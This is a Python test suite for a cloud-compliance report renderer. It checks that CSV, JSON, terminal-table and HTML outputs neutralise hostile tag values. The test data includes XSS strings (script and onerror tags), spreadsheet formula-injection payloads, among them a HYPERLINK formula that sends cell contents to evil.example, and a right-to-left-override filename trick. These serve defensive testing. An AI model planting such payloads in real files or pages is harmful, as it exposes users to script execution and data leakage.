"""Renderers of reports and query results: hostile values come out neutralised and otherwise unchanged."""

from __future__ import annotations

import csv
import io
import json
from html.parser import HTMLParser
from typing import Any

from hypothesis import given
from hypothesis import strategies as st

from workflow.render import (
    FORMULA_PREFIXES,
    UNOWNED,
    account_rows,
    group_by_account,
    group_by_owner,
    neutralise_cell,
    printable,
    report_csv,
    report_html,
    report_json,
    report_table,
    rows_csv,
    rows_json,
    rows_table,
    to_json_text,
    unscanned_targets,
)

HOSTILE_VALUES = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(2)">',
    "quote \" and ' apostrophe",
    "line one\nline two\r\nthree",
    "invoice\u202egpj.exe",
    '=HYPERLINK("http://evil.example/?x="&A1,"click me")',
    "+SUM(1,2)",
    "-2+3",
    "@cmd",
    "\tindented",
    "\rcarriage",
    "[bold red]markup[/bold red] [link=http://evil.example]x[/link]",
    "plain café ✓",
]


def finding(instance_id: str, owner: str | None, *, compliant: bool = False, **tags: str) -> dict[str, Any]:
    return {
        "instance_id": instance_id,
        "region": "eu-west-1",
        "account_id": "111122223333",
        "state": "running",
        "launch_time": "2026-01-01T00:00:00+00:00",
        "instance_type": "t3.micro",
        "name": tags.get("Name"),
        "owner": owner,
        "tags": {"Owner": owner or "", **tags},
        "compliant": compliant,
        "exempt": False,
        "in_grace_period": False,
        "violations": []
        if compliant
        else [
            {"code": "pattern_mismatch", "key": "Owner", "value": owner, "message": f"bad owner {owner!r}"}
        ],
        "run_id": "r1",
        "evaluated_at": "2026-01-02T03:04:05+00:00",
        "policy_name": "baseline",
    }


def summary(run_id: str = "r1", percentage: float = 50.0, noncompliant: int = 1) -> dict[str, Any]:
    return {
        "run_id": run_id,
        "evaluated_at": "2026-01-02T03:04:05+00:00",
        "policy": {"name": "baseline", "sha256": "ab" * 32},
        "totals": {
            "total": 2,
            "compliant": 2 - noncompliant,
            "noncompliant": noncompliant,
            "exempt": 0,
            "in_grace_period": 0,
            "compliance_percentage": percentage,
        },
        "by_rule": {"Owner:pattern_mismatch": noncompliant},
        "by_region": {"eu-west-1": {"compliant": 2 - noncompliant, "noncompliant": noncompliant}},
        "drift": {"previous_run_id": None, "newly_noncompliant": None, "newly_compliant": None},
    }


ACCOUNT_A, ACCOUNT_B, ACCOUNT_C = "111122223333", "444455556666", "777788889999"


def in_account(account_id: str, region: str, base: dict[str, Any]) -> dict[str, Any]:
    return {**base, "account_id": account_id, "region": region}


def org_findings() -> list[dict[str, Any]]:
    """Three accounts: A has 1 of 3 noncompliant, B 2 of 2 (one owner also in A), C 0 of 1."""
    return [
        in_account(ACCOUNT_A, "us-east-1", finding("i-a1", "bo@example.com")),
        in_account(ACCOUNT_B, "eu-west-1", finding("i-b1", "bo@example.com")),
        in_account(ACCOUNT_A, "eu-west-1", finding("i-a2", "ana@example.com", compliant=True)),
        in_account(ACCOUNT_B, "us-east-1", finding("i-b2", None)),
        in_account(ACCOUNT_C, "us-east-1", finding("i-c1", "cy@example.com", compliant=True)),
        in_account(ACCOUNT_A, "us-east-1", finding("i-a3", "dee@example.com", compliant=True)),
    ]


def org_summary(**extra: Any) -> dict[str, Any]:
    return {
        **summary(noncompliant=3),
        "totals": {
            "total": 6,
            "compliant": 3,
            "noncompliant": 3,
            "exempt": 0,
            "in_grace_period": 0,
            "compliance_percentage": 50.0,
        },
        "by_region": {
            "eu-west-1": {"compliant": 1, "noncompliant": 1},
            "us-east-1": {"compliant": 2, "noncompliant": 2},
        },
        "by_account": {
            ACCOUNT_A: {"compliant": 2, "noncompliant": 1},
            ACCOUNT_B: {"noncompliant": 2},
            ACCOUNT_C: {"compliant": 1},
        },
        **extra,
    }


TARGETS = [
    {"account_id": ACCOUNT_A, "region": "us-east-1", "status": "ok"},
    {"account_id": ACCOUNT_C, "region": "eu-west-1", "status": "error", "reason": "AccessDenied: <b>no</b>"},
    {"account_id": ACCOUNT_B, "region": "ap-south-1", "status": "error", "reason": "AssumeRole failed"},
    {"account_id": ACCOUNT_A, "region": "eu-west-1", "status": "ok"},
]


def table_rows(text: str, title: str) -> list[list[str]]:
    """The body rows of the table titled ``title`` in a report_table text, cells stripped."""
    lines = text.splitlines()
    start = next(i for i, line in enumerate(lines) if line.strip() == title)
    rows = []
    for line in lines[start + 1 :]:
        if line.startswith("└"):
            break
        if line.startswith("│"):
            rows.append([cell.strip() for cell in line.strip("│").split("│")])
    return rows


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def restore(cell: str) -> str:
    """What the neutralising apostrophe hides: the original value."""
    return cell[1:] if cell.startswith("'") and cell[1:].startswith((*FORMULA_PREFIXES, "'")) else cell


# -- CSV -----------------------------------------------------------------------------------------


def test_csv_prefixes_every_formula_cell_with_an_apostrophe_and_keeps_the_rest() -> None:
    text = rows_csv(["value"], [(v,) for v in HOSTILE_VALUES])
    cells = [row[0] for row in read_csv(text)[1:]]
    for value, cell in zip(HOSTILE_VALUES, cells, strict=True):
        if value.startswith(FORMULA_PREFIXES):
            assert cell == "'" + value
        else:
            assert cell == value
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)


@given(st.lists(st.text(), min_size=1, max_size=5))
def test_csv_cells_round_trip_once_the_apostrophe_is_removed(values: list[str]) -> None:
    text = rows_csv([f"c{i}" for i in range(len(values))], [values])
    [header, row] = read_csv(text)
    assert len(header) == len(values)
    assert [restore(c) for c in row] == values
    assert not any(c.startswith(FORMULA_PREFIXES) for c in row)


def test_report_csv_neutralises_tag_values_and_names_in_every_column() -> None:
    findings = [finding(f"i-{i}", value, Name=value, Team=value) for i, value in enumerate(HOSTILE_VALUES)]
    rows = read_csv(report_csv(findings))
    header, body = rows[0], rows[1:]
    assert len(body) == len(HOSTILE_VALUES)
    for value, row in zip(HOSTILE_VALUES, body, strict=True):
        record = dict(zip(header, row, strict=True))
        assert restore(record["owner"]) == value and restore(record["name"]) == value
        assert json.loads(record["tags"]) == {"Owner": value, "Name": value, "Team": value}
        assert record["violation_codes"] == "Owner:pattern_mismatch"
        assert all(not cell.startswith(FORMULA_PREFIXES) for cell in row)


def test_neutralise_cell_leaves_ordinary_values_alone() -> None:
    assert neutralise_cell("ana@example.com") == "ana@example.com"
    assert neutralise_cell("a=b") == "a=b"
    assert neutralise_cell("") == ""


# -- JSON ----------------------------------------------------------------------------------------


@given(
    st.recursive(
        st.none() | st.booleans() | st.integers() | st.text(),
        lambda c: st.lists(c) | st.dictionaries(st.text(), c),
        max_leaves=12,
    )
)
def test_json_round_trips_every_value_exactly(document: Any) -> None:
    assert json.loads(to_json_text(document)) == document


def test_json_writes_bidirectional_and_separator_characters_as_escapes() -> None:
    text = rows_json(["v"], [(v,) for v in HOSTILE_VALUES])
    assert "\u202e" not in text and "\\u202e" in text
    assert [row["v"] for row in json.loads(text)] == HOSTILE_VALUES
    report = report_json(summary(), [finding("i-1", "evil\u2028owner\u200f")])
    assert "\u2028" not in report and "\u200f" not in report
    assert json.loads(report)["findings"][0]["owner"] == "evil\u2028owner\u200f"


# -- table ---------------------------------------------------------------------------------------


def test_table_prints_markup_as_text_and_control_characters_as_escapes() -> None:
    text = rows_table(["value"], [(v,) for v in HOSTILE_VALUES], width=200)
    assert "[bold red]markup[/bold red]" in text
    assert "[link=http://evil.example]x[/link]" in text
    assert "invoice\\u202egpj.exe" in text and "\u202e" not in text
    assert "line one\\nline two\\r\\nthree" in text
    assert "plain café ✓" in text


def test_printable_escapes_only_what_a_terminal_would_act_on() -> None:
    assert printable("ok é ✓ 日本") == "ok é ✓ 日本"
    assert printable("\x1b[31mred") == "\\x1b[31mred"
    assert printable("a\u2066b\u2069c\u200b") == "a\\u2066b\\u2069c\\u200b"


def test_report_table_groups_noncompliant_instances_by_owner() -> None:
    findings = [
        finding("i-1", "bo@example.com"),
        finding("i-2", "bo@example.com"),
        finding("i-3", None),
        finding("i-4", "ana@example.com", compliant=True),
    ]
    text = report_table(summary(noncompliant=3), findings, width=160)
    assert text.index("bo@example.com (2 noncompliant)") < text.index(f"{UNOWNED} (1 noncompliant)")
    assert "ana@example.com" not in text
    assert "Owner:pattern_mismatch" in text


def test_account_rows_count_instances_and_compliance_per_account_most_noncompliant_first() -> None:
    assert account_rows(org_summary()) == [
        (ACCOUNT_B, 2, 2, 0.0),
        (ACCOUNT_A, 3, 1, 66.67),
        (ACCOUNT_C, 1, 0, 100.0),
    ]
    assert account_rows(summary()) == []  # a summary without by_account
    assert account_rows({"by_account": {"1": {}, "2": {"compliant": 1, "noncompliant": 1}}}) == [
        ("2", 2, 1, 50.0),
        ("1", 0, 0, 100.0),
    ]


def test_report_table_has_a_by_account_table_with_several_accounts() -> None:
    text = report_table(org_summary(), org_findings(), width=160)
    assert table_rows(text, "By account") == [
        [ACCOUNT_B, "2", "2", "0.0"],
        [ACCOUNT_A, "3", "1", "66.67"],
        [ACCOUNT_C, "1", "0", "100.0"],
    ]
    assert text.index("By account") < text.index("By region")  # accounts first: the wider view


def test_report_table_of_a_single_account_run_has_no_account_table_or_headings() -> None:
    single = {**summary(), "by_account": {ACCOUNT_A: {"compliant": 1, "noncompliant": 1}}}
    text = report_table(single, [finding("i-1", "bo@example.com"), finding("i-2", "ana", compliant=True)])
    assert "By account" not in text
    assert "Account " not in text
    assert "bo@example.com (1 noncompliant)" in text


def test_report_table_groups_noncompliant_instances_by_account_then_owner() -> None:
    text = report_table(org_summary(), org_findings(), width=160)
    b = text.index(f"Account {ACCOUNT_B}: 2 noncompliant")
    a = text.index(f"Account {ACCOUNT_A}: 1 noncompliant")
    assert b < a  # the account with most noncompliant instances first
    assert f"Account {ACCOUNT_C}" not in text  # nothing to fix there
    # bo@example.com owns a noncompliant instance in both accounts: one table under each.
    assert text.count("bo@example.com (1 noncompliant)") == 2
    assert b < text.index(f"{UNOWNED} (1 noncompliant)") < a
    assert table_rows(text[b:a], f"{UNOWNED} (1 noncompliant)") == [
        ["i-b2", "", ACCOUNT_B, "us-east-1", "Owner:pattern_mismatch"]
    ]
    assert table_rows(text[a:], "bo@example.com (1 noncompliant)") == [
        ["i-a1", "", ACCOUNT_A, "us-east-1", "Owner:pattern_mismatch"]
    ]


def test_group_by_account_splits_each_account_by_owner() -> None:
    groups = group_by_account(org_findings())
    assert [
        (account, [(o, [f["instance_id"] for f in m]) for o, m in owners]) for account, owners in groups
    ] == [
        (ACCOUNT_B, [(UNOWNED, ["i-b2"]), ("bo@example.com", ["i-b1"])]),
        (ACCOUNT_A, [("bo@example.com", ["i-a1"])]),
    ]


def test_report_csv_groups_rows_by_account_keeping_the_run_order_within_each() -> None:
    rows = read_csv(report_csv(org_findings()))
    header, body = rows[0], rows[1:]
    records = [dict(zip(header, row, strict=True)) for row in body]
    assert [(r["account_id"], r["instance_id"]) for r in records] == [
        (ACCOUNT_A, "i-a1"),
        (ACCOUNT_A, "i-a2"),
        (ACCOUNT_A, "i-a3"),
        (ACCOUNT_B, "i-b1"),
        (ACCOUNT_B, "i-b2"),
        (ACCOUNT_C, "i-c1"),
    ]


def test_unscanned_targets_are_those_not_ok_by_account_then_region() -> None:
    assert [(t["account_id"], t["region"]) for t in unscanned_targets({"targets": TARGETS})] == [
        (ACCOUNT_B, "ap-south-1"),
        (ACCOUNT_C, "eu-west-1"),
    ]
    assert unscanned_targets(summary()) == []
    assert unscanned_targets({"targets": None}) == []
    assert unscanned_targets({"targets": {"not": "a list"}}) == []


def test_report_table_lists_targets_not_scanned_and_marks_a_partial_scan() -> None:
    text = report_table(org_summary(partial=True, targets=TARGETS), org_findings(), width=160)
    assert text.splitlines()[0].startswith("Run r1 (partial scan), evaluated ")
    assert table_rows(text, "Targets not scanned (2 of 4)") == [
        [ACCOUNT_B, "ap-south-1", "AssumeRole failed"],
        [ACCOUNT_C, "eu-west-1", "AccessDenied: <b>no</b>"],
    ]
    assert text.index("Targets not scanned") < text.index("Totals")  # before the figures it qualifies
    counted = report_table(
        org_summary(partial=True, targets=TARGETS[1:2], target_counts={"total": 30, "error": 1}), []
    )
    assert table_rows(counted, "Targets not scanned (1 of 30)") == [
        [ACCOUNT_C, "eu-west-1", "AccessDenied: <b>no</b>"]
    ]


def test_report_without_targets_or_partial_renders_as_before() -> None:
    plain = report_table(summary(), [finding("i-1", "bo@example.com")])
    all_ok = report_table({**summary(), "partial": False, "targets": [TARGETS[0]]}, [finding("i-1", "bo")])
    for text in (plain, all_ok):
        assert "partial" not in text and "Targets not scanned" not in text
    page = report_html({**summary(), "partial": False, "targets": [TARGETS[0]]}, [])
    assert "Partial scan" not in page and "Targets not scanned" not in page


def test_group_by_owner_puts_blank_owners_under_no_owner_and_sorts_by_count() -> None:
    groups = group_by_owner(
        [
            finding("i-2", "b"),
            finding("i-1", "b"),
            finding("i-3", "  "),
            finding("i-4", "a"),
            finding("i-5", "a"),
        ]
    )
    assert [(owner, [f["instance_id"] for f in members]) for owner, members in groups] == [
        ("a", ["i-4", "i-5"]),
        ("b", ["i-1", "i-2"]),
        (UNOWNED, ["i-3"]),
    ]


# -- HTML ----------------------------------------------------------------------------------------


class Page(HTMLParser):
    """Tags seen, and the text inside each <bdi> (where every value of the report goes)."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.values: list[str] = []
        self._depth = 0
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        if tag == "bdi":
            self._depth += 1
            self.values.append("")

    def handle_endtag(self, tag: str) -> None:
        if tag == "bdi":
            self._depth -= 1

    def handle_data(self, data: str) -> None:
        if self._depth:
            self.values[-1] += data


def test_report_html_shows_every_hostile_value_as_text_never_as_markup() -> None:
    findings = [finding(f"i-{i}", value, Name=value) for i, value in enumerate(HOSTILE_VALUES)]
    page = report_html(summary(noncompliant=len(findings)), findings)
    parsed = Page(page)
    assert not {"script", "img", "a", "iframe", "object"} & set(parsed.tags)
    for value in HOSTILE_VALUES:
        assert parsed.values.count(value) >= 2  # the owner heading and the name cell
    assert "<script" not in page and "onerror=" not in page.replace("onerror=&quot;", "")
    assert 'http-equiv="Content-Security-Policy"' in page


@given(st.text(min_size=1))
def test_report_html_round_trips_any_owner_through_the_dom(owner: str) -> None:
    parsed = Page(report_html(summary(), [finding("i-1", owner, Name=owner)]))
    assert not {"script", "img"} & set(parsed.tags)
    expected = owner if owner.strip() else UNOWNED
    normalised = expected.replace("\r\n", "\n").replace("\r", "\n")
    assert normalised in [v.replace("\r\n", "\n").replace("\r", "\n") for v in parsed.values]


def test_report_html_draws_a_trend_only_when_several_runs_exist() -> None:
    one = report_html(summary(), [finding("i-1", "a")], history=[summary()])
    assert "Compliance trend" not in one and 'class="trend"' not in one
    history = [summary("r0", 40.0, 2), summary("r1", 50.0, 1), summary("<r2>", 100.0, 0)]
    many = report_html(history[-1], [], history=history)
    assert "Compliance trend (3 runs)" in many
    assert many.count('class="point"') == 3 and many.count('class="noncompliant-bar"') == 3
    assert "&lt;r2&gt;" in many and "<r2>" not in many
    assert "None: every evaluated instance is compliant." in many


class Tables(HTMLParser):
    """Every <table> of a page as rows of cell texts, with the <h2> heading before it; the
    data-account attribute of each account block and data-owner of each owner section in it."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tables: dict[str, list[list[str]]] = {}
        self.accounts: list[tuple[str, list[str]]] = []
        self.warnings: list[str] = []
        self._heading: str | None = None
        self._in: str | None = None
        self._table: list[list[str]] | None = None
        self._text = ""
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        attributes = dict(attrs)
        if tag == "div" and attributes.get("data-account"):
            self.accounts.append((attributes["data-account"] or "", []))
        elif tag == "section" and self.accounts:
            self.accounts[-1][1].append(attributes.get("data-owner") or "")
        elif tag == "h2" or (tag == "p" and "warning" in (attributes.get("class") or "")):
            self._in, self._text = tag, ""
        elif tag == "table" and self._heading is not None:
            self._table = self.tables.setdefault(self._heading, [])
        elif tag == "tr" and self._table is not None:
            self._table.append([])
        elif tag in {"td", "th"}:
            self._in, self._text = tag, ""

    def handle_endtag(self, tag: str) -> None:
        if tag == "h2" and self._in == "h2":
            self._heading, self._in = self._text, None
        elif tag == "p" and self._in == "p":
            self.warnings.append(self._text)
            self._in = None
        elif tag in {"td", "th"} and self._in == tag and self._table is not None:
            self._table[-1].append(self._text)
            self._in = None
        elif tag == "table":
            self._table, self._heading = None, None

    def handle_data(self, data: str) -> None:
        if self._in:
            self._text += data


def test_report_html_has_a_by_account_table_and_account_blocks_with_several_accounts() -> None:
    parsed = Tables(report_html(org_summary(), org_findings()))
    assert parsed.tables["By account"] == [
        ["account", "instances", "noncompliant", "compliance"],
        [ACCOUNT_B, "2", "2", "0.0%"],
        [ACCOUNT_A, "3", "1", "66.67%"],
        [ACCOUNT_C, "1", "0", "100.0%"],
    ]
    assert parsed.accounts == [(ACCOUNT_B, [UNOWNED, "bo@example.com"]), (ACCOUNT_A, ["bo@example.com"])]


def test_report_html_of_a_single_account_run_is_grouped_by_owner_only() -> None:
    single = {**summary(), "by_account": {ACCOUNT_A: {"compliant": 1, "noncompliant": 1}}}
    page = report_html(single, [finding("i-1", "bo@example.com"), finding("i-2", "ana", compliant=True)])
    parsed = Tables(page)
    assert "By account" not in parsed.tables and parsed.accounts == []
    assert "Noncompliant instances by owner" in page and 'data-owner="bo@example.com"' in page


def test_report_html_lists_targets_not_scanned_escaped_and_warns_of_a_partial_scan() -> None:
    page = report_html(org_summary(partial=True, targets=TARGETS), org_findings())
    parsed = Tables(page)
    assert parsed.tables["Targets not scanned (2 of 4)"] == [
        ["account", "region", "reason"],
        [ACCOUNT_B, "ap-south-1", "AssumeRole failed"],
        [ACCOUNT_C, "eu-west-1", "AccessDenied: <b>no</b>"],
    ]
    assert "<b>no</b>" not in page  # the reason is text, not markup
    assert parsed.warnings == [
        "Partial scan: some accounts or regions were not scanned; the figures cover only those that were."
    ]
    assert "(partial scan)" in page  # in the run line too


def test_a_value_that_starts_with_an_apostrophe_keeps_it_through_a_spreadsheet() -> None:
    # Found by the round-trip property: "'=" was written as is, and read back (and shown by a
    # spreadsheet, which hides one leading apostrophe) as "=".
    assert neutralise_cell("'=") == "''=" and neutralise_cell("'plain") == "''plain"
    [_, row] = read_csv(rows_csv(["a", "b"], [["'=", "'plain"]]))
    assert [restore(c) for c in row] == ["'=", "'plain"]
